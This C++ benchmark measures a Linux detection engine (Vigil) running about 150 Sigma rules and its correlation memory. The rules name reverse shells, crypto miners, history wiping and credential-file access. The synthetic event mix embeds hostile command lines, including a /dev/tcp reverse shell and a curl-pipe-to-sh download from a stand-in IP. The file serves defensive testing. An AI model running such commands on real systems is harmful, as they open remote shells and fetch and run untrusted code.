// Detection engine: events evaluated per second on one core with about 150 Sigma rules loaded,
// beside two references: the cost of parsing the same events from JSON Lines (what the hub
// and `vigil-agent rules test` pay before evaluating), and the engine with no rules. Then the
// memory of correlation state with 100,000 groups (Google Benchmark for the rates).
//
// TARGETS
//   events evaluated with ~150 rules >= 200,000 events/s on one core
//   correlation state <= 1 KB per group (100,000 groups of an event_count correlation)
// The rules: 50 written below in the shapes Vigil's own rules and SigmaHQ's Linux rules take
// (process_creation, network_connection, file_event and Vigil's login log source; contains,
// endswith, startswith, all, re, cidr, numeric comparisons, keywords, not-filters, 1 of),
// plus 100 generated ones of the commonest public shapes (an executable list with a command
// line list, a command line regular expression, a parent-child pair). The events: a fixed mix
// of 4,096 (70 % process exec, 20 % network connect, 5 % login failure, 5 % file created),
// about 2 % of which match a rule.
//
// Usage: vigil-bench-detect [Google Benchmark flags]. Prints Google Benchmark's table, then
// the targets with PASS/MISS. Exit status 0 whenever it ran.

#include <malloc.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <new>
#include <random>
#include <string>
#include <vector>

#include <benchmark/benchmark.h>

#include "agent/core/event.h"
#include "agent/detect/detect.h"

// Every operator new is counted, to show that evaluation does not allocate per event.
std::atomic<uint64_t> g_news{0};

// GCC sees free() on memory from operator new; here operator new is malloc.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
#endif
void* operator new(size_t n) {
  g_news.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(n ? n : 1)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept { std::free(p); }
void operator delete(void* p, size_t) noexcept { std::free(p); }
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic pop
#endif

namespace {

using vigil::Event;
using vigil::Json;
namespace detect = vigil::detect;

// ---- rules ----

struct Hand {
  const char* logsource;
  const char* detection;
};

constexpr const char* kProc = "{category: process_creation, product: linux}";
constexpr const char* kNet = "{category: network_connection, product: linux}";
constexpr const char* kFile = "{category: file_event, product: linux}";
constexpr const char* kLogin = "{product: vigil, category: login, service: failure}";

const Hand kHandRules[] = {
    {kProc, "  sel:\n    CommandLine|contains|all: [' -i ', '/dev/tcp/']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/nc, /ncat, /netcat]\n    CommandLine|contains: [' -e ', ' -c ']\n  condition: "
     "sel\n"},
    {kProc,
     "  sel:\n    CommandLine|contains: ['stratum+tcp://', 'stratum+ssl://', 'stratum2+tcp://']\n  condition: sel\n"},
    {kProc, "  sel:\n    CommandLine|contains: ['--donate-level', '--cpu-priority', '--nicehash']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/xmrig, /xmr-stak, /minerd, /cpuminer, /ccminer, /ethminer, /cgminer]\n  condition: "
     "sel\n"},
    {kProc,
     "  sel:\n    Image|startswith: [/tmp/, /dev/shm/, /var/tmp/, /run/user/]\n  filter:\n    Image|startswith: "
     "/tmp/systemd-private\n  condition: sel and not filter\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/rm, /shred, /truncate]\n    CommandLine|contains: [.bash_history, .zsh_history, "
     ".ash_history]\n  condition: sel\n"},
    {kProc, "  sel:\n    CommandLine|contains: ['history -c', 'unset HISTFILE', 'HISTFILESIZE=0']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/iptables, /nft, /ufw]\n    CommandLine|contains: [' -F', ' flush', ' disable', "
     "'policy accept']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: /systemctl\n    CommandLine|contains: [stop auditd, disable auditd, stop firewalld, "
     "stop apparmor]\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/useradd, /adduser, /usermod]\n    CommandLine|contains: [' -o ', ' -u 0', ' -G "
     "root', ' -G sudo']\n  condition: sel\n"},
    {kProc, "  sel:\n    Image|endswith: /nohup\n    CommandLine|contains: [/tmp/, /dev/shm/]\n  condition: sel\n"},
    {kProc,
     "  dl:\n    CommandLine|contains: [wget , curl ]\n  run:\n    CommandLine|contains: ['| sh', '| bash', '|sh', "
     "'|bash', '; chmod +x']\n  condition: dl and run\n"},
    {kProc,
     "  sel:\n    CommandLine|re: '(base64\\s+(-d|--decode)|openssl\\s+enc\\s+-d).*\\|\\s*(ba|da|z)?sh'\n  condition: "
     "sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: /chmod\n    CommandLine|contains: ['777 /tmp/', '+x /tmp/', '777 /dev/shm/', '+x "
     "/dev/shm/']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/insmod, /modprobe]\n    CommandLine|contains: [/tmp/, /dev/shm/, .ko]\n  filter:\n "
     "   User: root\n    ParentImage|endswith: /systemd-modules-load\n  condition: sel and not filter\n"},
    {kProc, "  sel:\n    CommandLine|contains: [/dev/watchdog]\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/tftp, /ftpget, /busybox]\n    CommandLine|contains: [' get ', ' -g ', ' ftpget "
     "']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    ParentImage|endswith: [/apache2, /httpd, /nginx, /lighttpd, /php-fpm]\n    Image|endswith: [/sh, "
     "/bash, /dash, /busybox]\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/python, /python3, /perl, /ruby, /php]\n    CommandLine|contains|all: [socket, "
     "connect, exec]\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: /ssh\n    CommandLine|contains: [' -R ', ' -L ', ' -D ']\n    CommandLine|re: "
     "'-[RLD]\\s*\\d+'\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: /socat\n    CommandLine|contains: ['exec:', tcp-listen, openssl-connect]\n  "
     "condition: sel\n"},
    {kProc,
     "  sel:\n    CommandLine|contains: [/etc/shadow, /etc/gshadow]\n  filter:\n    Image|endswith: [/passwd, /chage, "
     "/unix_chkpwd]\n  condition: sel and not filter\n"},
    {kProc, "  sel:\n    Image|endswith: /crontab\n    CommandLine|contains: [' -r', '/tmp/']\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/nmap, /masscan, /zmap, /hydra, /medusa, /john, /hashcat]\n  condition: sel\n"},
    {kProc, "  sel:\n    CommandLine|contains: [LD_PRELOAD=, /etc/ld.so.preload]\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/dd]\n    CommandLine|contains: [if=/dev/mem, if=/dev/kmem, of=/dev/sda, "
     "of=/dev/mmcblk]\n  condition: sel\n"},
    {kProc,
     "  sel:\n    CommandLine|contains: [echo 0 > /proc/sys/kernel/randomize_va_space, "
     "'kernel.randomize_va_space=0']\n  condition: sel\n"},
    {kProc, "  sel:\n    Image|endswith: /setenforce\n    CommandLine|contains: ' 0'\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/wget, /curl]\n    CommandLine|re: "
     "'https?://\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}'\n  condition: sel\n"},
    {kProc, "  keywords:\n    - 'xmrig'\n    - 'kdevtmpfsi'\n    - 'kinsing'\n  condition: keywords\n"},
    {kProc,
     "  sel_img:\n    Image|contains: /.\n  sel_dir:\n    Image|startswith: [/tmp/, /var/tmp/, /dev/shm/]\n  "
     "condition: all of sel_*\n"},
    {kProc, "  sel:\n    Image|endswith: ' (deleted)'\n  condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: [/base64, /xxd]\n    CommandLine|contains: [/etc/passwd, /etc/shadow, id_rsa]\n  "
     "condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: /tar\n    CommandLine|contains|all: [--checkpoint=, --checkpoint-action=exec]\n  "
     "condition: sel\n"},
    {kProc,
     "  sel:\n    Image|endswith: /find\n    CommandLine|contains: [' -exec /bin/sh', ' -exec sh', -perm -4000, -perm "
     "-u=s]\n  condition: sel\n"},
    {kNet,
     "  sel:\n    Initiated: 'true'\n    DestinationPort: [3333, 3334, 3335, 3336, 4444, 5555, 7777, 8888, 9999, "
     "14433, 14444, 45560, 45700]\n  condition: sel\n"},
    {kNet,
     "  sel:\n    Initiated: 'true'\n    DestinationPort: [23, 2323]\n  filter:\n    DestinationIp|cidr: [10.0.0.0/8, "
     "172.16.0.0/12, 192.168.0.0/16]\n  condition: sel and not filter\n"},
    {kNet, "  sel:\n    Image|startswith: [/tmp/, /dev/shm/, /var/tmp/]\n    Initiated: 'true'\n  condition: sel\n"},
    {kNet,
     "  sel:\n    Image|endswith: [/bash, /sh, /dash, /python3, /perl]\n    Initiated: 'true'\n    DestinationPort|gt: "
     "1023\n  condition: sel\n"},
    {kNet, "  sel:\n    DestinationIp|cidr: [198.51.100.0/24, 203.0.113.0/24, 2001:db8:dead::/48]\n  condition: sel\n"},
    {kNet, "  sel:\n    Initiated: 'false'\n    SourcePort: [23, 2323, 48101]\n  condition: sel\n"},
    {kNet, "  sel:\n    Image|endswith: [/ssh, /sshd]\n    DestinationPort: [1080, 9050, 9150]\n  condition: sel\n"},
    {kFile,
     "  sel:\n    TargetFilename|startswith: [/etc/cron.d/, /etc/cron.daily/, /var/spool/cron/]\n  condition: sel\n"},
    {kFile, "  sel:\n    TargetFilename|endswith: [/.ssh/authorized_keys, /.ssh/authorized_keys2]\n  condition: sel\n"},
    {kFile,
     "  sel:\n    TargetFilename|startswith: [/etc/systemd/system/, /lib/systemd/system/]\n    "
     "TargetFilename|endswith: .service\n  condition: sel\n"},
    {kFile,
     "  sel:\n    TargetFilename: [/etc/ld.so.preload, /etc/passwd, /etc/shadow, /etc/sudoers]\n  condition: sel\n"},
    {kLogin, "  sel:\n    user: [root, admin, pi, ubnt, support]\n    source_ip|cidr: 0.0.0.0/0\n  condition: sel\n"},
    {kLogin, "  sel:\n    invalid_user: 'true'\n  condition: sel\n"},
    {kLogin,
     "  sel:\n    service: [dropbear, sshd]\n    message|contains: [Too many authentication failures, maximum "
     "authentication attempts]\n  condition: sel\n"},
};

const char* kTools[] = {
    "wget",    "curl",   "nc",      "ncat",    "socat",    "python3", "perl",     "ruby",    "php",      "bash",
    "sh",      "dash",   "busybox", "openssl", "base64",   "xxd",     "dd",       "tar",     "zip",      "scp",
    "rsync",   "ssh",    "sshpass", "tftp",    "ftpget",   "chmod",   "chown",    "chattr",  "setcap",   "getcap",
    "mount",   "umount", "insmod",  "rmmod",   "modprobe", "ip",      "ifconfig", "route",   "iptables", "nft",
    "tcpdump", "strace", "gdb",     "ltrace",  "lsof",     "kill",    "pkill",    "killall", "crontab",  "at"};
const char* kFlags[] = {"--output-document",
                        "-O /tmp/",
                        "--no-check-certificate",
                        "-k https://",
                        "-e /bin/",
                        "exec:",
                        "-c 'import",
                        "-MIO::Socket",
                        "-rsocket",
                        "fsockopen",
                        "-d | sh",
                        "enc -d",
                        "if=/dev/",
                        "--to-command",
                        "-P /tmp/",
                        "StrictHostKeyChecking=no",
                        "-p 22 root@",
                        " -g -r ",
                        "+i /etc/",
                        "cap_setuid+ep",
                        "-o bind",
                        "-l /tmp/",
                        "link set",
                        " add default",
                        "-j ACCEPT",
                        "-w /tmp/",
                        "-p $(pidof",
                        "-9 -1",
                        "-r",
                        "now + 1 minute"};

// A YAML single-quoted scalar.
std::string Q(const std::string& v) {
  std::string out = "'";
  for (char c : v) out += c == '\'' ? std::string("''") : std::string(1, c);
  return out + "'";
}

std::string Rule(int i, const char* logsource, const std::string& detection, const char* level = "medium") {
  return "title: Bench rule " + std::to_string(i) + "\nid: bench-" + std::to_string(i) +
         "\nstatus: test\nlevel: " + level + "\ntags: [attack.execution, attack.t1059.004]\nlogsource: " + logsource +
         "\ndetection:\n" + detection + "falsepositives: [Unknown]\n";
}

std::vector<detect::RuleSource> BenchRules() {
  std::string text;
  int n = 0;
  for (const Hand& h : kHandRules) {
    if (n > 0) text += "---\n";
    text += Rule(n, h.logsource, h.detection);
    ++n;
  }
  // 100 generated rules of the commonest public shapes.
  for (int i = 0; i < 100; ++i) {
    const char* tool = kTools[i % std::size(kTools)];
    const char* f1 = kFlags[i % std::size(kFlags)];
    const char* f2 = kFlags[(i * 7 + 3) % std::size(kFlags)];
    std::string det;
    const std::string t = tool;
    switch (i % 4) {
      case 0:
        det = "  selection:\n    Image|endswith: " + Q("/" + t) + "\n    CommandLine|contains:\n      - " + Q(f1) +
              "\n      - " + Q(f2) + "\n  condition: selection\n";
        break;
      case 1:
        det = "  selection_img:\n    - Image|endswith: " + Q("/" + t) +
              "\n    - CommandLine|startswith: " + Q(t + " ") +
              "\n  selection_cli:\n    CommandLine|contains|all:\n      - " + Q(f1) + "\n      - " + Q(f2) +
              "\n  filter_main:\n    User: nobody\n  condition: all of selection_* and not 1 of filter_*\n";
        break;
      case 2:
        det = "  selection:\n    ParentImage|endswith: " + Q("/" + t) +
              "\n    Image|endswith: ['/sh', '/bash']\n    CommandLine|contains: " + Q(f1) +
              "\n  condition: selection\n";
        break;
      default:
        det = "  selection:\n    Image|endswith: " + Q("/" + t) +
              "\n    CommandLine|re: " + Q(t + "\\s+.*(\\-\\-[a-z]+=\\S+|/tmp/\\S+)\\s+" + std::to_string(i)) +
              "\n  condition: selection\n";
    }
    text += "---\n" + Rule(n++, kProc, det);
  }
  return {{"bench-rules.yml", text}};
}

// ---- events ----

std::vector<std::string> EventLines() {
  std::mt19937 rng(42);
  const char* progs[] = {"/usr/bin/ls",      "/usr/bin/cat",
                         "/usr/bin/grep",    "/usr/bin/systemctl",
                         "/usr/bin/python3", "/bin/sh",
                         "/usr/bin/awk",     "/usr/sbin/ip",
                         "/usr/bin/sleep",   "/usr/bin/date",
                         "/usr/bin/curl",    "/usr/bin/wget",
                         "/bin/busybox",     "/usr/lib/openssh/sftp-server",
                         "/usr/bin/logger",  "/usr/sbin/iptables"};
  const char* args[] = {"-la /var/log",
                        "/proc/loadavg",
                        "-q ERROR /var/log/app.log",
                        "status vigil-agent",
                        "/opt/app/monitor.py --interval 5",
                        "-c 'test -f /run/app.pid && echo ok'",
                        "'{print $1}' /proc/meminfo",
                        "-4 addr show eth0",
                        "5",
                        "+%s",
                        "-fsS https://updates.example.net/manifest.json",
                        "-q -O /var/cache/app/pkg.tar.gz https://updates.example.net/pkg",
                        "udhcpc -i eth0",
                        "",
                        "-t app started",
                        "-L -n"};
  std::vector<std::string> out;
  for (int i = 0; i < 4096; ++i) {
    Event e;
    e.device = "3d1219c7c4c5404aaa1f6d2a48adfda4";
    e.seq = static_cast<uint64_t>(i + 1);
    e.ts_ms = 1763900000000 + i * 10;
    int kind = static_cast<int>(rng() % 100);
    bool bad = rng() % 50 == 0;  // about 2 % are suspicious
    if (kind < 70) {
      size_t p = rng() % std::size(progs);
      std::string exe = progs[p];
      std::string base = exe.substr(exe.rfind('/') + 1);
      std::string cmd = base + " " + args[p];
      if (bad) {
        const char* evil[] = {"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "curl -s http://198.51.100.7/x.sh | sh",
                              "xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1",
                              "rm -f /root/.bash_history"};
        cmd = evil[rng() % std::size(evil)];
      }
      e.type = "process";
      e.action = "exec";
      e.data = {{"pid", 1000 + i},
                {"ppid", 1},
                {"uid", 0},
                {"user", "root"},
                {"exe", exe},
                {"cmdline", cmd},
                {"cwd", "/"},
                {"comm", base.substr(0, 15)},
                {"parent_exe", "/usr/bin/bash"},
                {"parent_cmdline", "/bin/bash /usr/local/bin/watchdog.sh"}};
    } else if (kind < 90) {
      e.type = "network";
      e.action = "connect";
      int port = bad ? 3333 : (rng() % 2 ? 443 : 53);
      e.data = {{"pid", 2000 + i},
                {"exe", "/usr/bin/curl"},
                {"uid", 0},
                {"user", "root"},
                {"protocol", "tcp"},
                {"family", "ipv4"},
                {"local_ip", "10.0.0.2"},
                {"local_port", 40000 + i % 20000},
                {"remote_ip", "93.184.216." + std::to_string(i % 250)},
                {"remote_port", port},
                {"direction", "outbound"},
                {"initiated", true}};
    } else if (kind < 95) {
      e.type = "login";
      e.action = "failure";
      e.data = {{"user", bad ? "root" : "operator"},
                {"source_ip", "192.0.2." + std::to_string(i % 250)},
                {"source_port", 50000},
                {"method", "password"},
                {"service", "sshd"},
                {"result", "failed"},
                {"source", "auth_log"},
                {"message", "Failed password for operator from 192.0.2.7 port 50000 ssh2"}};
    } else {
      e.type = "file";
      e.action = "created";
      e.data = {{"path", bad ? "/etc/cron.d/x" : "/var/lib/app/state-" + std::to_string(i)}, {"root", "/var/lib/app"}};
    }
    out.push_back(vigil::EventToJsonLine(e));
  }
  return out;
}

const std::vector<std::string>& Lines() {
  static const std::vector<std::string> lines = EventLines();
  return lines;
}

const std::vector<Event>& Events() {
  static const std::vector<Event> events = [] {
    std::vector<Event> v;
    for (const auto& l : Lines()) v.push_back(*vigil::EventFromJson(Json::parse(l)));
    return v;
  }();
  return events;
}

std::shared_ptr<const detect::RuleSet> LoadRules(bool with_rules, size_t* count) {
  std::vector<detect::RuleSource> src = with_rules ? BenchRules() : std::vector<detect::RuleSource>{};
  auto r = detect::RuleSet::Load(src);
  for (const auto& e : r.errors) std::fprintf(stderr, "bench rule error: %s\n", e.ToString().c_str());
  if (count) *count = r.loaded;
  return r.rules;
}

size_t g_rules_loaded = 0;
uint64_t g_alerts = 0;

void BM_ParseEventJson(benchmark::State& state) {
  const auto& lines = Lines();
  size_t i = 0;
  for (auto _ : state) {
    auto e = vigil::EventFromJson(Json::parse(lines[i++ % lines.size()]));
    benchmark::DoNotOptimize(e);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ParseEventJson);

void RunEngine(benchmark::State& state, bool with_rules) {
  auto rules = LoadRules(with_rules, with_rules ? &g_rules_loaded : nullptr);
  detect::Engine engine(rules);
  const auto& events = Events();
  std::vector<Event> alerts;
  size_t i = 0;
  uint64_t produced = 0;
  for (auto _ : state) {
    alerts.clear();
    engine.Process(events[i++ % events.size()], &alerts);
    produced += alerts.size();
  }
  if (with_rules) g_alerts = engine.stats().matches;
  benchmark::DoNotOptimize(produced);
  state.SetItemsProcessed(state.iterations());
}
void BM_DetectNoRules(benchmark::State& state) { RunEngine(state, false); }
void BM_Detect150Rules(benchmark::State& state) { RunEngine(state, true); }
BENCHMARK(BM_DetectNoRules);
BENCHMARK(BM_Detect150Rules);

class Collecting : public benchmark::ConsoleReporter {
 public:
  explicit Collecting(OutputOptions options) : ConsoleReporter(options) {}
  void ReportRuns(const std::vector<Run>& runs) override {
    for (const Run& r : runs)
      if (r.run_type == Run::RT_Iteration && !r.error_occurred)
        cpu_ns_[r.run_name.function_name] = r.GetAdjustedCPUTime();
    ConsoleReporter::ReportRuns(runs);
  }
  double ns(const std::string& name) const {
    auto it = cpu_ns_.find(name);
    return it == cpu_ns_.end() ? -1 : it->second;
  }

 private:
  std::map<std::string, double> cpu_ns_;
};

// Bytes in use by malloc now.
size_t HeapInUse() {
  struct mallinfo2 mi = mallinfo2();
  return mi.uordblks + mi.hblkhd;
}

}  // namespace

int main(int argc, char** argv) {
  std::printf("== Detection: events/s with ~150 Sigma rules on one core; correlation state per group\n");
  std::fflush(stdout);
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 2;
  Collecting reporter(isatty(STDOUT_FILENO) ? benchmark::ConsoleReporter::OO_ColorTabular
                                            : benchmark::ConsoleReporter::OO_Tabular);
  benchmark::RunSpecifiedBenchmarks(&reporter);
  benchmark::Shutdown();

  // Allocations per event: after one warm-up pass, the events that match no rule, then all.
  uint64_t news_quiet = 0, news_all = 0;
  size_t quiet_events = 0;
  {
    detect::Engine engine(LoadRules(true, nullptr));
    const auto& events = Events();
    std::vector<Event> alerts;
    alerts.reserve(64);
    std::vector<const Event*> quiet;
    for (const Event& e : events) {  // warm-up: buffers reach their working sizes
      alerts.clear();
      engine.Process(e, &alerts);
    }
    // The events that match no rule.
    uint64_t m = engine.stats().matches;
    for (const Event& e : events) {
      engine.Process(e, &alerts);
      if (engine.stats().matches == m) quiet.push_back(&e);
      m = engine.stats().matches;
      alerts.clear();
    }
    uint64_t before = g_news.load();
    for (const Event* e : quiet) engine.Process(*e, &alerts);
    news_quiet = g_news.load() - before;
    quiet_events = quiet.size();
    before = g_news.load();
    for (const Event& e : events) {
      alerts.clear();
      engine.Process(e, &alerts);
    }
    news_all = g_news.load() - before;
  }

  // Correlation state: one event_count correlation grouped by source address, 100,000 sources
  // failing once each (none reaches the threshold, so every group is held).
  constexpr int kGroups = 100'000;
  std::string corr =
      "title: Failed login\nname: failed_login\nlogsource: {product: vigil, category: login, service: failure}\n"
      "detection:\n  sel:\n    result: failed\n  condition: sel\n---\n"
      "title: Brute force\nid: bf\ncorrelation:\n  type: event_count\n  rules: [failed_login]\n"
      "  group-by: [source_ip]\n  timespan: 10m\n  condition: {gte: 5}\n";
  std::vector<detect::RuleSource> src{{"corr.yml", corr}};
  auto loaded = detect::RuleSet::Load(src);
  std::vector<Event> logins;
  logins.reserve(kGroups);
  for (int i = 0; i < kGroups; ++i) {
    Event e;
    e.device = "3d1219c7c4c5404aaa1f6d2a48adfda4";
    e.seq = static_cast<uint64_t>(i + 1);
    e.ts_ms = 1763900000000 + i;
    e.type = "login";
    e.action = "failure";
    e.data = {{"user", "root"},
              {"source_ip",
               "10." + std::to_string(i >> 16) + "." + std::to_string((i >> 8) & 255) + "." + std::to_string(i & 255)},
              {"service", "sshd"},
              {"result", "failed"},
              {"source", "auth_log"}};
    logins.push_back(std::move(e));
  }
  detect::EngineOptions opts;
  opts.max_groups = 200'000;
  size_t before = HeapInUse();
  auto engine = std::make_unique<detect::Engine>(loaded.rules, opts);
  std::vector<Event> alerts;
  for (const Event& e : logins) engine->Process(e, &alerts);
  size_t after = HeapInUse();
  size_t counted = engine->StateBytes();
  const double per_group = static_cast<double>(after - before) / kGroups;

  const double parse = reporter.ns("BM_ParseEventJson");
  const double none = reporter.ns("BM_DetectNoRules");
  const double rules = reporter.ns("BM_Detect150Rules");
  std::printf("\n  %-52s %-34s %s\n", "target", "measured", "verdict");
  if (parse < 0 || none < 0 || rules < 0) {
    std::printf("  %-52s %-34s %s\n", "events/s with ~150 rules >= 200,000", "not all benchmarks ran", "NOT MEASURED");
  } else {
    char fig[96];
    std::snprintf(fig, sizeof(fig), "%.0f events/s (%.2f us/event)", 1e9 / rules, rules / 1000);
    char label[96];
    std::snprintf(label, sizeof(label), "events/s with %zu rules >= 200,000", g_rules_loaded);
    std::printf("  %-52s %-34s %s\n", label, fig, 1e9 / rules >= 200'000 ? "PASS" : "MISS");
    std::printf("    reference: parsing the same events from JSON Lines  %.0f events/s (%.2f us/event)\n", 1e9 / parse,
                parse / 1000);
    std::printf("    reference: the engine with no rules                 %.0f events/s (%.3f us/event)\n", 1e9 / none,
                none / 1000);
    std::printf("    (rule matches in the benchmark's mix: %llu)\n", static_cast<unsigned long long>(g_alerts));
  }
  std::printf(
      "    allocations per event: %.3f over %zu events that match no rule; %.2f over the whole mix (its matches "
      "included, repeats suppressed)\n",
      quiet_events ? static_cast<double>(news_quiet) / static_cast<double>(quiet_events) : 0.0, quiet_events,
      static_cast<double>(news_all) / static_cast<double>(Events().size()));
  char mem[96];
  std::snprintf(mem, sizeof(mem), "%.0f B/group, %.1f MB for %d", per_group, (after - before) / 1e6, kGroups);
  std::printf("  %-52s %-34s %s\n", "correlation state <= 1 KB per group (mallinfo2)", mem,
              per_group <= 1024 ? "PASS" : "MISS");
  std::printf("    the engine's own count: %.0f B/group (%zu bytes; allocator overhead not counted)\n",
              static_cast<double>(counted) / kGroups, counted);
  return 0;
}
